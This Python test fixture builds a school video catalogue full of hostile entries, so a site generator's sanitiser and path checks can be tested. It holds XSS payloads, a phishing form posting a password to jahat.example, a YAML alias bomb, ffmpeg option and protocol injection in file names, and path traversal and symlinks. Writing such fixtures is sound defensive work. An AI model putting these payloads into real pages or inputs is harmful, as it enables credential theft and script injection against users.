"""Every hostile input of issue #6 as one scenario: a school catalogue mixing bad and good.

:func:`hostile_catalogue` writes a project (``mkdocs.yml``, ``content/``) in which
each case of the issue's list is one school or entry folder, beside good entries
that must still be published. Each :class:`Case` says which problem code the
report must carry for it (``None``: a good entry that must reach the site), so
the test can check "exactly the good ones published, one problem per bad case".
Media are real: the session ``clips`` and a few more made here with ffmpeg.
"""

from __future__ import annotations

import shutil
import subprocess
import sys
from dataclasses import dataclass
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "plugin"))
from site_scenario import Site, new_site

FFMPEG = shutil.which("ffmpeg") or "ffmpeg"

# Names that must stay file names: options, spaces, emoji, non-ASCII, protocols.
DASH_NAME = "-i 🎥 rekaman sekolah ñ -y.mp4"
PROTOCOL_NAME = "concat:video.mp4|pipe:0.mp4"

MARKUP_TITLE = '<svg onload=alert(1)>Judul "Aman"</svg><style>*{display:none}</style>'
MARKUP_BODY = """\
Penjelasan yang **tetap terbaca**.

<form action="https://jahat.example/curi"><input name="sandi"><button>Masuk</button></form>

<meta http-equiv="refresh" content="0;url=https://jahat.example/">
<base href="https://jahat.example/">
<link rel="stylesheet" href="https://jahat.example/tema.css">
<object data="https://jahat.example/x.swf"></object><embed src="https://jahat.example/x.swf">
<style>body{background:url(https://jahat.example/pelacak.png)}</style>
<div style="position:fixed;top:0;left:0;width:100vw;height:100vh;z-index:99999">PALSU</div>
<a href="&#106;avascript:alert(7)">tautan tersamar</a> <a href=" JaVaScRiPt:alert(8)">spasi</a>
<img srcset="https://jahat.example/a.png 1x" src="ok.png">
<iframe srcdoc="<script>alert(9)</script>"></iframe>
[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxMCk8L3NjcmlwdD4=)
<details open ontoggle="alert(11)"><summary>x</summary></details>
"""
MARKUP_TAGS = '["<img src=x onerror=alert(12)>", "javascript:alert(13)", "data:text/html,x"]'

ENTRY = """\
---
title: {title}
date: 2026-08-14
category: kreativitas-siswa
video: {video}
tags: {tags}
consent: {consent}
status: published
{extra}---
{body}
"""


@dataclass(frozen=True, slots=True)
class Case:
    """One folder of the scenario.

    Attributes:
        folder: Path below ``content/sekolah/`` (a school, or school/entry).
        what: The case as the issue lists it.
        code: The problem code the report must carry for it; ``None`` for a
            good entry that must be published without any problem.
        published: Whether its page must exist in the built site.
    """

    folder: str
    what: str
    code: str | None
    published: bool


def extra_media(folder: Path, clips: dict[str, Path]) -> dict[str, Path]:
    """Media the session clips lack: an image, an unknown codec and a VFR clip."""
    folder.mkdir(parents=True, exist_ok=True)

    def ffmpeg(*args: str) -> None:
        subprocess.run([FFMPEG, "-v", "error", "-nostdin", "-y", *args], check=True)

    made = {"image": folder / "gambar.png", "vfr": folder / "vfr.mp4"}
    ffmpeg("-f", "lavfi", "-i", "testsrc2=s=160x120", "-frames:v", "1", str(made["image"]))
    # Variable frame rate as phones record it: frames dropped unevenly, timestamps kept.
    ffmpeg(
        "-f",
        "lavfi",
        "-i",
        "testsrc2=s=160x120:r=30:d=3",
        "-f",
        "lavfi",
        "-i",
        "sine=d=3",
        "-vf",
        "select='not(mod(n\\,3))+gt(mod(n\\,7)\\,4)'",
        "-fps_mode",
        "vfr",
        "-c:v",
        "libx264",
        "-preset",
        "ultrafast",
        "-pix_fmt",
        "yuv420p",
        "-c:a",
        "aac",
        "-shortest",
        str(made["vfr"]),
    )
    # An unknown codec: a valid MP4 whose sample entry names a codec nobody knows.
    data = clips["silent"].read_bytes()
    assert data.count(b"avc1") >= 1
    unknown = folder / "kodek.mp4"
    unknown.write_bytes(data.replace(b"avc1", b"qqq9").replace(b"avcC", b"qqqC"))
    made["unknown"] = unknown
    return made


def hostile_catalogue(root: Path, clips: dict[str, Path]) -> tuple[Site, list[Case]]:
    """Write the mixed scenario under ``root``; return the site and its cases."""
    site = new_site(root, clips)
    media = {**clips, **extra_media(root / "bahan", clips)}
    outside = root / "di-luar"  # a folder of the server that no school owns
    outside.mkdir()
    shutil.copyfile(clips["ok"], outside / "rahasia.mp4")
    (outside / "rahasia.vtt").write_text("WEBVTT\n\n00:00.000 --> 00:01.000\nx\n")
    shutil.copyfile(media["image"], outside / "logo.png")
    cases: list[Case] = []
    school = "sdn-1-blora"
    site.school(school, npsn="20312345")
    base = site.content / "sekolah"

    def entry(
        slug: str,
        what: str,
        code: str | None,
        *,
        clip: str | None = "ok",
        video: str = "video.mp4",
        title: str | None = None,
        body: str = "Murid berkarya.",
        tags: str = "[robotik]",
        consent: str = "true",
        extra: str = "",
        raw: bytes | None = None,
        published: bool | None = None,
    ) -> Path:
        folder = base / school / slug
        folder.mkdir(parents=True)
        if clip is not None:
            shutil.copyfile(media[clip], folder / video)
        quoted = '"' + (title or f"Judul {slug}").replace('"', '\\"') + '"'
        text = ENTRY.format(
            title=quoted, video=_yaml_str(video), tags=tags, consent=consent, extra=extra, body=body
        )
        (folder / "index.md").write_bytes(raw if raw is not None else text.encode())
        ok = code is None or code in ("FIELD_UNKNOWN", "VIDEO_EXTRA")
        cases.append(Case(f"{school}/{slug}", what, code, ok if published is None else published))
        return folder

    # --- videos -------------------------------------------------------------------
    entry("baik", "a good entry", None)
    entry("kosong", "zero-byte video", "VIDEO_EMPTY", clip="empty")
    entry("terpotong", "truncated video", "VIDEO_TRUNCATED", clip="truncated")
    entry("acak", "random bytes named .mp4", "VIDEO_UNREADABLE", clip="random")
    entry("teks", "text renamed .mp4", "VIDEO_UNREADABLE", clip="text")
    entry("gambar", "image renamed .mp4", "VIDEO_UNREADABLE", clip="image")
    entry("suara", "audio-only file", "VIDEO_NO_PICTURE", clip="audio_only")
    entry("dua-jam", "a 2-hour upload", "VIDEO_TOO_LONG", clip="two_hours")
    entry("kodek-asing", "unknown codec", "VIDEO_CODEC_UNKNOWN", clip="unknown")
    entry("uhd", "4K clip", None, clip="uhd")
    entry("vfr", "variable frame rate phone clip", None, clip="vfr")
    entry("diputar", "rotated phone clip", None, clip="rotated", video="video.mov")
    entry("nama-opsi", "name with leading dash, spaces, emoji, non-ASCII", None, video=DASH_NAME)
    entry("nama-protokol", "name that reads as an ffmpeg protocol", None, video=PROTOCOL_NAME)
    several = entry("banyak-video", "entry folder with several videos", "VIDEO_EXTRA")
    shutil.copyfile(clips["short"], several / "cadangan.mov")
    # --- text ---------------------------------------------------------------------
    entry(
        "yaml-rusak",
        "broken YAML",
        "YAML_INVALID",
        raw=b"---\ntitle: [tidak ditutup\ndate: 2026-08-14\n---\nx\n",
    )
    bomb = "a: &a [x,x,x,x,x,x,x,x,x]\n" + "".join(
        f"{c}: &{c} [{','.join(['*' + p] * 9)}]\n"
        for p, c in zip("abcdefgh", "bcdefghi", strict=True)
    )
    entry("bom-alias", "YAML alias bomb", "YAML_ALIAS", raw=f"---\n{bomb}---\nx\n".encode())
    entry(
        "bukan-utf8",
        "non-UTF-8 file",
        "TEXT_NOT_UTF8",
        raw="---\ntitle: Tari Kreasi\n---\nBudaya".encode("utf-16"),
    )
    good = ENTRY.format(
        title="Bersih BOM CRLF",
        video="video.mp4",
        tags="[a]",
        consent="true",
        extra="",
        body="Baris satu.\nBaris dua.",
    )
    entry(
        "bom-crlf", "BOM and CRLF", None, raw=b"\xef\xbb\xbf" + good.replace("\n", "\r\n").encode()
    )
    entry("judul-raksasa", "enormous title", "TEXT_TOO_LONG", title="Robot " * 4000)
    entry("badan-raksasa", "enormous body", "FILE_TOO_LARGE", body="Kata " * 80_000)
    entry("tanpa-izin", "consent: false", "CONSENT_MISSING", consent="false")
    entry(
        "markup",
        "script, handlers, javascript:, data:, iframe, form, CSS overlay",
        "IMAGE_MISSING",  # its ok.png is not in the folder: a warning, the page is published
        title=MARKUP_TITLE,
        body=MARKUP_BODY,
        tags=MARKUP_TAGS,
        published=True,
    )
    # --- paths that leave the folder -------------------------------------------------
    entry(
        "video-naik", "video ..", "PATH_OUTSIDE", clip=None, video="../../../../di-luar/rahasia.mp4"
    )
    entry(
        "video-absolut",
        "video absolute path",
        "PATH_OUTSIDE",
        clip=None,
        video=str(outside / "rahasia.mp4"),
    )
    linked = entry("video-tautan", "video symlink outside", "PATH_OUTSIDE", clip=None)
    (linked / "video.mp4").symlink_to(outside / "rahasia.mp4")
    entry(
        "teks-naik",
        "captions ..",
        "PATH_OUTSIDE",
        extra="captions: ../../../../di-luar/rahasia.vtt\n",
    )
    captions = entry(
        "teks-tautan", "captions symlink outside", "PATH_OUTSIDE", extra="captions: teks.vtt\n"
    )
    (captions / "teks.vtt").symlink_to(outside / "rahasia.vtt")
    entry(
        "poster-naik",
        "a poster path (no such field: never read)",
        "FIELD_UNKNOWN",
        extra="poster: ../../../../di-luar/logo.png\n",
    )
    (base / school / "folder-tautan").symlink_to(outside, target_is_directory=True)
    (outside / "index.md").write_text(good, encoding="utf-8")
    cases.append(
        Case(f"{school}/folder-tautan", "entry folder symlink outside", "FOLDER_LINKED", False)
    )
    # index.md itself a link to a text outside content/ (its video is real and in place)
    linked_text = entry("index-tautan", "entry index.md symlink outside", "FILE_LINKED")
    (outside / "entri.md").write_text(good, encoding="utf-8")
    (linked_text / "index.md").unlink()
    (linked_text / "index.md").symlink_to(outside / "entri.md")

    # --- schools --------------------------------------------------------------------
    def school_case(slug: str, what: str, code: str, **fields: str) -> Path:
        site.school(slug, npsn=fields.pop("npsn"), **fields)
        cases.append(Case(slug, what, code, False))
        return base / slug

    logo = school_case("sd-logo-naik", "logo ..", "PATH_OUTSIDE", npsn="20312350")
    _add_field(logo / "index.md", "logo: ../../../di-luar/logo.png")
    logo = school_case("sd-logo-tautan", "logo symlink outside", "PATH_OUTSIDE", npsn="20312351")
    (logo / "logo.png").symlink_to(outside / "logo.png")
    _add_field(logo / "index.md", "logo: logo.png")
    school_case("sd-kembar-a", "duplicate NPSN (first)", "NPSN_DUPLICATE", npsn="20312360")
    school_case("sd-kembar-b", "duplicate NPSN (second)", "NPSN_DUPLICATE", npsn="20312360")
    school_case(
        "SDN-1-Blora",
        "duplicate slug (same school, other spelling)",
        "SLUG_INVALID",
        npsn="20312361",
    )
    linked_profile = school_case(
        "sd-index-tautan", "school index.md symlink outside", "FILE_LINKED", npsn="20312362"
    )
    (linked_profile / "index.md").rename(outside / "profil.md")
    (linked_profile / "index.md").symlink_to(outside / "profil.md")
    (base / "sd-tautan").symlink_to(base / school, target_is_directory=True)
    cases.append(Case("sd-tautan", "school folder symlink", "FOLDER_LINKED", False))
    return site, cases


def _yaml_str(text: str) -> str:
    return "'" + text.replace("'", "''") + "'"


def _add_field(index: Path, line: str) -> None:
    """Add a front-matter line before the closing ``---``."""
    text = index.read_text(encoding="utf-8")
    index.write_text(text.replace("\n---\n", f"\n{line}\n---\n", 1), encoding="utf-8")
